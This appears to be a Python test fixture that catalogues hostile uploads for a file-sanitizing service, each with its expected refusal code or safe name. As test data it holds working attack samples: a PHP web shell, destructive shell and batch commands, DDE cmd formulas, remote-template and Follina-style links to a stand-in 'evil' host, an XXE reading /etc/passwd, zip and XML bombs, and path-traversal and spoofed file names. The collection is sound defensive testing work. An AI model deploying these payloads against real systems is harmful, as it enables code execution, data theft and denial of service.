"""The catalogue of hostile files, each with the outcome it must have: a code of refusal, or a safe name."""

import gzip
import io
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator
from typing import NamedTuple

import pikepdf
from pikepdf import Array, Dictionary, Name

from tests.evidence.making import (
    EICAR,
    PROGRAM,
    compound,
    excel97,
    field,
    heic,
    mail,
    office,
    office_parts,
    opened,
    outlook,
    pdf,
    picture,
    png_of,
    relations,
    word97,
    word_xml,
    zipped,
)  # fmt: skip

ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 2, 62, 1) + bytes(200)
MEGA = 1_000_000


class Case(NamedTuple):
    """A file and its outcome: a code of refusal, or 'as ' and the name under which it is stored."""

    title: str
    name: str
    content: bytes
    outcome: str


def cases() -> Iterator[Case]:
    """Every hostile file."""
    for group in (
        programs, scripts, archives, polyglots, active_pdfs, closed_pdfs, broken, macros, outside, fields,
        embedded, bombs,
        lying_zips, pictures, mails, texts, names,
    ):  # fmt: skip
        for case in group():
            yield Case(*case)


def programs():
    yield "exe named pdf", "report.pdf", PROGRAM, "executable"
    yield "exe named docx", "รายงาน.docx", PROGRAM * 20, "executable"
    yield "elf named jpg", "photo.jpg", ELF, "executable"
    yield "java class named xls", "a.xls", b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(200), "executable"
    yield "shortcut named pdf", "a.pdf", b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F" + bytes(200), "executable"
    yield "internet shortcut", "link.txt", b"[InternetShortcut]\r\nURL=file://evil/x.exe\r\n", "script"
    yield "installer in OLE", "setup.doc", compound({"\u4840\u3f3f\u4577\u446c": bytes(5000)}), "executable"


def scripts():
    yield "html named pdf", "a.pdf", b"<!DOCTYPE html><html><body>x</body></html>", "markup"
    yield "html with script in text", "a.txt", "บันทึก <script>alert(1)</script>".encode(), "markup"
    yield "html in UTF-16 text", "a.txt", "note <script>alert(1)</script>".encode("utf-16"), "markup"
    yield "html in TIS-620", "a.txt", "สวัสดี <IMG src=x onerror=alert(1)>".encode("cp874"), "markup"
    yield "svg named png", "a.png", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "markup"
    yield "svg behind a long comment", "a.svg", (
        b'<?xml version="1.0"?><!--' + b"x" * 9000 + b'--><svg onload="x()"/>'
    ), "markup"
    yield "shell script", "a.txt", b"#!/bin/sh\nrm -rf /\n", "script"
    yield "batch file", "a.csv", b"@echo off\r\nformat c:\r\n", "script"
    yield "php", "a.txt", b"<?php system($_GET['c']); ?>", "script"
    yield "vbscript", "a.txt", b'Set s = CreateObject("WScript.Shell")\r\ns.Run "calc"\r\n', "script"
    yield "powershell", "a.txt", b"powershell -enc SQBFAFgA\r\n", "script"
    yield "rtf", "a.doc", b"{\\rtf1\\ansi {\\object\\objocx}}", "type"
    yield "saved web page", "a.eml", (
        b"From: <Saved by Blink>\r\nSnapshot-Content-Location: http://x/\r\nMIME-Version: 1.0\r\n"
        b"Content-Type: text/html\r\n\r\n<html></html>"), "markup"


def archives():
    plain = zipped({"a.pdf": pdf()})
    tar = io.BytesIO()
    with tarfile.open(fileobj=tar, mode="w") as archive:
        archive.addfile(tarfile.TarInfo("a"), io.BytesIO())
    yield "zip", "a.zip", plain, "archive"
    yield "zip named docx", "a.docx", plain, "archive"
    yield "empty zip", "a.docx", zipped({}), "archive"
    yield "rar named pdf", "a.pdf", b"Rar!\x1a\x07\x01\0" + bytes(99), "archive"
    yield "7z", "a.7z", b"7z\xbc\xaf\x27\x1c\0\x04" + bytes(99), "archive"
    yield "gzip named csv", "a.csv", gzip.compress(b"a,b"), "archive"
    yield "tar", "a.txt", tar.getvalue(), "archive"
    yield "apk", "a.xlsx", zipped({"AndroidManifest.xml": b"x", "classes.dex": b"dex"}), "archive"
    yield "mp3", "a.doc", b"ID3\x03\0\0\0\0\0\x0a" + bytes(10) + b"\xff\xfb\x90\x64" + bytes(400), "media"
    yield "mp4 named heic", "a.heic", b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom" + bytes(99), "media"
    yield "bmp", "a.bmp", picture("BMP"), "type"


def polyglots():
    jar = zipped({"META-INF/MANIFEST.MF": b"Main-Class: X"})
    yield "pdf and zip", "a.pdf", pdf() + jar, "polyglot"
    head = b"%PDF-1.4\n"
    whole = pdf()[len(head) :]
    yield "zip inside pdf", "a.pdf", (
        _with_comment(head + b"1 0 obj\n<<>>\nstream\n", jar, b"endstream\n" + whole)
    ), "polyglot"
    yield "html before pdf", "a.pdf", b"<html><script>x()</script>" + pdf(), "polyglot"
    yield "javascript before pdf", "a.pdf", b"x=1/*" + pdf(), "polyglot"
    yield "exe before pdf", "a.pdf", PROGRAM[:300] + pdf(), "polyglot"
    yield "html behind pdf", "a.pdf", pdf() + b"\n<script>alert(1)</script>", "polyglot"
    yield "exe behind pdf", "a.pdf", pdf() + PROGRAM, "polyglot"
    yield "gifar", "a.gif", picture("GIF") + jar, "polyglot"
    yield "gif and javascript", "a.gif", b"GIF89a/*" + picture("GIF")[8:] + b"*/=1;alert(1)", "polyglot"
    yield "jpeg and zip", "a.jpg", picture("JPEG") + jar, "polyglot"
    yield "jpeg, noise and zip", "a.jpg", picture("JPEG") + bytes(range(1, 255)) * 30 + jar, "polyglot"
    yield "jpeg and exe", "a.jpg", picture("JPEG") + PROGRAM, "polyglot"
    yield "jpeg with php in its comment", "a.jpg", picture("JPEG", comment=b"<?php system('x') ?>"), "polyglot"
    yield "png and html", "a.png", picture() + b"<html><script>x()</script></html>", "polyglot"
    yield "png that is a pdf", "a.png", picture()[:33] + struct.pack(">I", 9) + b"tEXt%PDF-1.4 " + pdf(), "polyglot"
    yield "webp and rar", "a.webp", picture("WEBP") + b"Rar!\x1a\x07\x01\0" + bytes(99), "polyglot"
    yield "docx behind exe", "a.docx", PROGRAM + office("docx"), "executable"
    yield "docx before exe", "a.docx", office("docx") + PROGRAM, "polyglot"
    yield "docx that is a pdf", "a.docx", zipped({"%PDF-1.4": b"x"} | office_parts("docx")), "polyglot"
    yield "doc and zip", "a.doc", compound({"WordDocument": word97()}) + jar, "polyglot"
    yield "heic and exe", "a.heic", heic() + PROGRAM, "polyglot"


def _with_comment(before: bytes, archive: bytes, after: bytes) -> bytes:
    """A zip archive in the middle: all that follows is its comment."""
    start = archive.rfind(b"PK\x05\x06")
    end = bytearray(archive[start:])
    end[20:22] = struct.pack("<H", len(after))
    return before + archive[:start] + bytes(end) + after


def _action(kind: str, **more):
    def change(document):
        document.Root.OpenAction = Dictionary(S=Name(f"/{kind}"), **more)

    return change


def active_pdfs():
    yield "pdf with javascript", "a.pdf", pdf(_action("JavaScript", JS="app.alert(1)")), "active"
    plain = pdf(_action("JavaScript", JS="app.alert(1)"))
    hidden = plain.replace(b"/JavaScript", b"/J#61v#61Script").replace(b"/JS", b"/#4aS")
    yield "pdf with javascript in other letters", "a.pdf", hidden, "active"
    yield "pdf with javascript in an object stream", "a.pdf", pdf(
        _action("JavaScript", JS="x()"), object_stream_mode=pikepdf.ObjectStreamMode.generate), "active"
    yield "pdf that launches", "a.pdf", pdf(_action("Launch", F="cmd.exe")), "active"
    yield "pdf with a link to javascript", "a.pdf", pdf(_action("URI", URI="javascript:alert(1)")), "active"
    yield "pdf that opens a share", "a.pdf", pdf(_action("GoToR", F="\\\\evil\\x.pdf")), "external"

    def named(document):
        document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array(["x", Dictionary(S=Name.JavaScript)])))

    def form(document):
        document.Root.AcroForm = Dictionary(Fields=Array([]), XFA=document.make_stream(b"<xdp/>"))

    def button(document):
        script = Dictionary(E=Dictionary(S=Name.JavaScript, JS="x()"))
        document.pages[0].Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.Screen, AA=script)])

    yield "pdf with a named script", "a.pdf", pdf(named), "active"
    yield "pdf with xfa", "a.pdf", pdf(form), "active"
    yield "pdf with a script on a button", "a.pdf", pdf(button), "active"
    yield "pdf with a program attached", "a.pdf", pdf(_attach(PROGRAM)), "executable"
    yield "pdf with eicar attached", "a.pdf", pdf(_attach(EICAR)), "virus"
    yield "pdf with a page attached", "a.pdf", pdf(_attach(b"<html><script>x()</script></html>")), "markup"


def _attach(content: bytes):
    def change(document):
        document.attachments["invoice.xml"] = content

    return change


def closed_pdfs():
    for title, options in (
        ("RC4-40", {"R": 2, "aes": False, "metadata": False}), ("RC4-128", {"R": 3, "aes": False, "metadata": False}),
        ("AES-128", {"R": 4}), ("AES-256", {"R": 6}),
    ):  # fmt: skip
        sealed = pikepdf.Encryption(user="secret", owner="owner", **options)
        yield f"pdf under {title}", "a.pdf", pdf(encryption=sealed), "encrypted"
    yield "docx under a password", "a.docx", compound(
        {"EncryptionInfo": bytes(5000), "EncryptedPackage": bytes(9000)}), "encrypted"
    yield "doc under a password", "a.doc", compound({"WordDocument": word97(flags=1)}), "encrypted"
    yield "xls under a password", "a.xls", compound({"Workbook": excel97((0x2F, bytes(6)))}), "encrypted"
    yield "ppt under a password", "a.ppt", compound(
        {"PowerPoint Document": bytes(5000), "EncryptedSummary": bytes(5000)}), "encrypted"
    yield "odt under a password", "a.odt", opened(parts={
        "META-INF/manifest.xml": '<?xml version="1.0"?><manifest:m><manifest:encryption-data /></manifest:m>'
    }), "encrypted"


def broken():
    yield "empty", "a.pdf", b"", "empty"
    yield "pdf cut in half", "a.pdf", pdf()[:300], "broken"
    yield "pdf of noise", "a.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 40 + b"\n%%EOF", "broken"
    yield "pdf without pages", "a.pdf", (
        b"%PDF-1.4\n1 0 obj\n<</Type/Catalog>>\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF"
    ), "broken"

    def looped(document):
        document.Root.Pages.Kids = Array([document.Root.Pages])

    yield "pdf with pages in a circle", "a.pdf", pdf(looped), "broken"
    yield "docx cut in half", "a.docx", office("docx")[:-200], "broken"
    flipped = bytearray(office("docx"))
    flipped[-400] ^= 0xFF
    yield "docx with a flipped bit", "a.docx", bytes(flipped), "broken"
    yield "jpeg cut in half", "a.jpg", picture("JPEG", (640, 480))[:-300], "broken"
    yield "png cut in half", "a.png", picture("PNG", (640, 480))[:-30], "broken"
    yield "gif cut in half", "a.gif", picture("GIF")[:-20], "broken"
    yield "tiff cut in half", "a.tif", picture("TIFF", (640, 480))[:3000], "broken"
    yield "webp cut in half", "a.webp", picture("WEBP", (640, 480))[:-9], "broken"
    yield "heic cut in half", "a.heic", heic()[:-9], "broken"
    circle = bytearray(picture("TIFF"))
    start = struct.unpack_from("<I", circle, 4)[0]
    count = struct.unpack_from("<H", circle, start)[0]
    struct.pack_into("<I", circle, start + 2 + 12 * count, start)
    yield "tiff with pages in a circle", "a.tif", bytes(circle), "broken"
    yield "doc cut in half", "a.doc", compound({"WordDocument": word97()})[:1500], "broken"
    yield "OLE of noise", "a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(range(256)) * 20, "broken"


def macros():
    project = compound({"VBA/dir": bytes(5000)})
    word = "application/vnd.ms-word.document.macroEnabled.main+xml"
    yield "docx with vbaProject", "a.docx", office("docx", {"word/vbaProject.bin": project}), "macro"
    yield "docx with macros under another name", "a.docx", office("docx", {"word/media/image1.png": project}), "macro"
    yield "docm named docx", "a.docx", office("docx", main=word), "macro"
    yield "xlsm", "a.xlsm", office("xlsx", main="application/vnd.ms-excel.sheet.macroEnabled.main+xml"), "macro"
    yield "xlsx with an Excel 4 macro sheet", "a.xlsx", office("xlsx", {"xl/macrosheets/sheet1.xml": "<x/>"}), "macro"
    yield "pptx with macros by relation", "a.pptx", office("pptx", {"ppt/_rels/presentation.xml.rels": relations(
        ("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "data.bin", False))}), "macro"
    yield "doc with macros", "a.doc", compound({"WordDocument": word97(), "Macros/VBA/dir": bytes(5000)}), "macro"
    yield "xls with macros", "a.xls", compound(
        {"Workbook": excel97(), "_VBA_PROJECT_CUR/VBA/dir": bytes(5000)}), "macro"
    yield "xls with an Excel 4 macro sheet", "a.xls", compound(
        {"Workbook": excel97((0x85, struct.pack("<IBBBB", 0, 0, 1, 1, 0) + b"M"))}), "macro"
    atom = b"\x1f\x00\xff\x03\x14\x00\x00\x00\x02\x00\x00\x04\x0c\x00\x00\x00" + struct.pack("<III", 5, 1, 2)
    yield "ppt with macros", "a.ppt", compound({"PowerPoint Document": bytes(900) + atom + bytes(4000)}), "macro"
    yield "odt with Basic", "a.odt", opened(parts={"Basic/Standard/Module1.xml": "<x/>"}), "macro"
    yield "ods with Python", "a.ods", opened("spreadsheet", {"Scripts/python/x.py": "import os"}), "macro"
    yield "odt that calls a macro", "a.odt", opened(
        content='<?xml version="1.0"?><d><a xlink:href="vnd.sun.star.script:x?language=Basic"/></d>'), "macro"
    yield "docx with ActiveX", "a.docx", office("docx", {"word/activeX/activeX1.xml": "<x/>"}), "activex"
    yield "odp with a plug-in", "a.odp", (
        opened("presentation", content='<?xml version="1.0"?><d><draw:plugin x="1"/></d>')
    ), "activex"


def outside():
    def linked(kind: str, target: str, name: str = "word/_rels/document.xml.rels") -> bytes:
        return office("docx", {name: relations((kind, target, True))})

    settings = "word/_rels/settings.xml.rels"
    yield "docx with a template from the web", "a.docx", (
        linked("attachedTemplate", "http://evil/t.dotm", settings)
    ), "external"
    yield "docx with a template from a share", "a.docx", (
        linked("attachedTemplate", "\\\\evil\\t.dotm", settings)
    ), "external"
    yield "docx with a template by UNC file", "a.docx", (
        linked("attachedTemplate", "file://evil/t.dotm", settings)
    ), "external"
    yield "docx with an object from the web", "a.docx", linked("oleObject", "https://evil/x"), "external"
    yield "docx with follina", "a.docx", linked("oleObject", "mhtml:http://evil/x.html!x-usc:http://evil/x"), "external"
    yield "docx with a frame", "a.docx", linked("frame", "http://evil/x"), "external"
    yield "docx with a picture from a share", "a.docx", linked("image", "\\\\evil\\x.png"), "external"
    yield "docx with a link to a script", "a.docx", linked("hyperlink", "javascript:alert(1)"), "external"
    yield "odt with a frame", "a.odt", opened(
        content='<?xml version="1.0"?><d><draw:floating-frame xlink:href="http://evil/x"/></d>'), "external"


def fields():
    body = field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe")
    yield "docx with DDE", "a.docx", office("docx", {"word/document.xml": word_xml(body)}), "dde"
    pieces = field("D", "D", "E", " cmd.exe")
    yield "docx with DDE in pieces", "a.docx", office("docx", {"word/header1.xml": word_xml(pieces)}), "dde"
    letters = field("&#68;&#x44;EAUTO cmd")
    yield "docx with DDE in references", "a.docx", office("docx", {"word/document.xml": word_xml(letters)}), "dde"
    simple = '<w:fldSimple w:instr="DDE cmd x"/>'
    yield "docx with simple DDE", "a.docx", office("docx", {"word/document.xml": word_xml(simple)}), "dde"
    link = '<?xml version="1.0"?><externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    yield "xlsx with a DDE link", "a.xlsx", office("xlsx", {"xl/externalLinks/externalLink1.xml": link}), "dde"
    formula = "<?xml version='1.0'?><sheetData><c><f>cmd|'/C calc'!A0</f></c></sheetData>"
    yield "xlsx with a DDE formula", "a.xlsx", office("xlsx", {"xl/worksheets/sheet1.xml": formula}), "dde"
    yield "csv with a DDE formula", "a.csv", b"name,value\nx,=cmd|'/C calc'!A0\n", "dde"
    yield "doc with DDE", "a.doc", compound({"WordDocument": word97("\x13 DDEAUTO cmd \x15")}), "dde"
    yield "ods with DDE", "a.ods", (
        opened("spreadsheet", content='<?xml version="1.0"?><d><office:dde-source x="1"/></d>')
    ), "dde"


def embedded():
    yield "docx with a program", "a.docx", office("docx", {"word/media/image1.png": PROGRAM}), "executable"
    package = compound({"\x01Ole10Native": PROGRAM.ljust(5000, b"\0")})
    yield "docx with an OLE package", "a.docx", office("docx", {"word/embeddings/oleObject1.bin": package}), "embedded"
    yield "docx with a zip", "a.docx", office("docx", {"word/embeddings/x.bin": zipped({"a.exe": PROGRAM})}), "archive"
    yield "docx with a macro workbook", "a.docx", office(
        "docx", {"word/embeddings/x.xlsx": office("xlsx", {"xl/vbaProject.bin": b"x"})}), "macro"
    deep = office("docx")
    for _ in range(5):
        deep = office("docx", {"word/embeddings/x.docx": deep})
    yield "docx five deep", "a.docx", deep, "nested"
    yield "eicar", "a.txt", EICAR, "virus"
    yield "eicar in docx", "a.docx", office("docx", {"word/media/x.bin": EICAR}), "virus"
    yield "eicar in docx in docx", "a.docx", office(
        "docx", {"word/embeddings/x.docx": office("docx", {"customXml/item1.xml": EICAR})}), "virus"


def bombs():
    yield "docx that swells", "a.docx", office("docx", {"word/media/x.emf": bytes(60 * MEGA)}), "bomb"
    yield "docx that swells in many parts", "a.docx", _in_many_parts(), "bomb"
    yield "docx of many parts", "a.docx", office("docx", {f"x/{i}": b"" for i in range(5_500)}), "bomb"
    laughs = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha">' + "".join(
        f'<!ENTITY {chr(98 + i)} "{f"&{chr(97 + i)};" * 10}">' for i in range(9)) + "]><x>&j;</x>"
    yield "billion laughs", "a.docx", office("docx", {"customXml/item1.xml": laughs}), "xml"
    yield "billion laughs in UTF-16", "a.xlsx", office("xlsx", {"xl/a.xml": laughs.encode("utf-16")}), "xml"
    yield "entity in relations", "a.pptx", office("pptx", {"ppt/_rels/x.rels": laughs}), "xml"
    yield "external entity in odt", "a.odt", opened(
        content='<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'), "xml"
    yield "pdf whose attachment swells", "a.pdf", pdf(_attach_swelling), "embedded"
    yield "pdf of endless brackets", "a.pdf", b"%PDF-1.4\n1 0 obj\n" + b"[" * MEGA + b"\n%%EOF", "broken"


def _attach_swelling(document):
    packed = zlib.compress(bytes(160 * MEGA), 1)
    stream = document.make_stream(packed, Type=Name.EmbeddedFile, Filter=Name.FlateDecode)
    document.Root.Attached = document.make_indirect(Dictionary(Type=Name.Filespec, F="a.txt", EF=Dictionary(F=stream)))


def _in_many_parts() -> bytes:
    """Parts that are small each, with the same compressed bytes, 470 MB altogether."""
    size, file = 3_900_000, bytearray(office("docx"))
    end = file.rfind(b"PK\x05\x06")
    start = struct.unpack_from("<I", file, end + 16)[0]
    directory, file = bytes(file[start:end]), file[:start]
    packed = zlib.compress(bytes(size), 9)[2:-4]
    for number in range(120):
        name = f"word/media/image{number}.emf".encode()
        fields_ = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 33, zlib.crc32(bytes(size)), len(packed), size, len(name), 0)
        directory += b"PK\x01\x02\x14\0" + fields_ + struct.pack("<HHHII", 0, 0, 0, 0, len(file)) + name
        file += b"PK\x03\x04" + fields_ + name + packed
    last = struct.pack("<HHHHIIH", 0, 0, 123, 123, len(directory), len(file), 0)
    return bytes(file) + directory + b"PK\x05\x06" + last


def lying_zips():
    good = office("docx")
    yield "parts on top of each other", "a.docx", _overlapping(), "bomb"
    end = good.rfind(b"PK\x05\x06")
    huge = good[:end] + good[end : end + 10] + b"\xff\xff" + good[end + 12 :]
    yield "claims zip64 without it", "a.docx", huge, "broken"
    record = struct.pack("<4sQHHIIQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, 3, 10**7, 2**40, 100)
    locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, end, 1)
    ones = good[end : end + 8] + b"\xff" * 12 + good[end + 20 :]
    yield "zip64 with false numbers", "a.docx", good[:end] + record + locator + ones, "bomb"
    small = bytearray(office("docx", {"word/media/x.emf": bytes(9 * MEGA)}))
    at = small.rfind(b"word/media/x.emf") - 46 + 24
    small[at : at + 4] = struct.pack("<I", 1000)
    yield "claims to be smaller", "a.docx", bytes(small), "broken"
    for title, name in (
        ("climbs", "../../etc/cron.d/x"), ("absolute", "/etc/passwd"), ("windows path", "C:\\x.exe"),
        ("backslashes", "word\\..\\..\\x"),
    ):  # fmt: skip
        yield f"part name {title}", "a.docx", office("docx", {name: b"x"}), "names"
    yield "two parts of one name", "a.docx", office("docx", {"word/X.xml": "<a/>", "word/x.xml": "<b/>"}), "names"
    link = io.BytesIO(good)
    with zipfile.ZipFile(link, "a") as package:
        info = zipfile.ZipInfo("word/link")
        info.external_attr = 0xA1FF << 16
        package.writestr(info, "/etc/passwd")
    yield "symbolic link", "a.docx", link.getvalue(), "names"


def _overlapping() -> bytes:
    """A package whose directory leads to one part twice, under two names."""
    file = io.BytesIO(office("docx", {"word/media/aa": b"x" * 9000}))
    with zipfile.ZipFile(file, "a") as package:
        twin = zipfile.ZipInfo("word/media/bb")
        package.writestr(twin, b"")
        first = package.getinfo("word/media/aa")
        for field_ in ("compress_type", "file_size", "compress_size", "CRC", "header_offset"):
            setattr(package.getinfo("word/media/bb"), field_, getattr(first, field_))
    return file.getvalue()


def pictures():
    yield "png of 400 megapixels", "a.png", png_of(20_000, 20_000), "pixels"
    yield "jpeg that claims 4 gigapixels", "a.jpg", _claiming(picture("JPEG")), "pixels"
    yield "gif that claims 4 gigapixels", "a.gif", b"GIF89a\xff\xff\xff\xff" + picture("GIF")[10:], "pixels"
    yield "heic of 900 megapixels", "a.heic", heic(30_000, 30_000), "pixels"
    yield "png bomb in docx", "a.docx", office("docx", {"word/media/image1.png": png_of(20_000, 20_000)}), "pixels"
    yield "png of no width", "a.png", picture("PNG")[:16] + bytes(4) + picture("PNG")[20:], "broken"


def _claiming(jpeg: bytes) -> bytes:
    at = jpeg.find(b"\xff\xc0") + 5
    return jpeg[:at] + b"\xff\xff\xff\xff" + jpeg[at + 4 :]


def mails():
    yield "mail with a program", "a.eml", mail(("ใบแจ้งหนี้.pdf", PROGRAM)), "executable"
    yield "mail with a zip", "a.eml", mail(("a.zip", zipped({"a": b"x"}))), "archive"
    yield "mail with a page", "a.eml", mail(("a.html", b"<html><script>x()</script></html>")), "markup"
    yield "mail with a macro document", "a.eml", (
        mail(("a.docx", office("docx", {"word/vbaProject.bin": b"x"})))
    ), "macro"
    yield "mail with eicar", "a.eml", mail(("a.pdf", EICAR)), "virus"
    yield "mail in mail with eicar", "a.eml", mail(("a.eml", mail(("x.bin", EICAR)))), "virus"
    yield "outlook message with a program", "a.msg", outlook(("a.pdf", PROGRAM.ljust(5000, b"\0"))), "executable"
    yield "outlook message with eicar in docx", "a.msg", outlook(
        ("a.docx", office("docx", {"x.bin": EICAR}).ljust(5000, b"\0"))), "virus"
    yield "mail ten deep", "a.eml", _deep_mail(), "nested"


def _deep_mail() -> bytes:
    message = mail()
    for _ in range(10):
        message = mail(("a.eml", message))
    return message


def texts():
    yield "text with NUL", "a.txt", b"report\0.exe and more text\n", "nul"
    yield "UTF-16 without its mark", "a.txt", "plain text, long enough".encode("utf-16-le"), "nul"
    yield "noise", "a.txt", bytes(range(256)) * 20, "type"
    yield "too large", "a.txt", b"a" * (50 * MEGA + 1), "too_large"


def names():
    whole = pdf()
    bidi = chr(0x202E)
    for title, name, safe in (
        ("../", "../../etc/passwd", "passwd.pdf"),
        ("windows path", "C:\\Windows\\system32\\รายงาน.pdf", "รายงาน.pdf"),
        ("CR LF", "a.pdf\r\nSet-Cookie: x=1", "a.pdf Set-Cookie_ x=1.pdf"),
        ("NUL", "report.pdf\0.exe", "report.pdf"),
        ("RTL override", f"report{bidi}fdp.exe", "reportfdp.pdf"),
        ("two endings", "report.pdf.exe", "report.pdf"),
        ("another's ending", "report.xlsx", "report.pdf"),
        ("device", "CON.pdf", "_CON.pdf"),
        ("hidden", ".htaccess", "htaccess.pdf"),
        ("dots and spaces", " ..report. .", "report.pdf"),
        ("nothing", "\u200b\ufeff", "document.pdf"),
        ("255 Thai bytes", "ก" * 85 + ".pdf", "ก" * 83 + ".pdf"),
        ("torn cluster", "ก" * 82 + "ที่" + ".pdf", "ก" * 82 + ".pdf"),
        ("decomposed am", "ท\u0e4d\u0e32.pdf", "ทำ.pdf"),
        ("markup", "<script>x</script>.pdf", "script_.pdf"),
    ):  # fmt: skip
        yield f"name: {title}", name, whole, f"as {safe}"
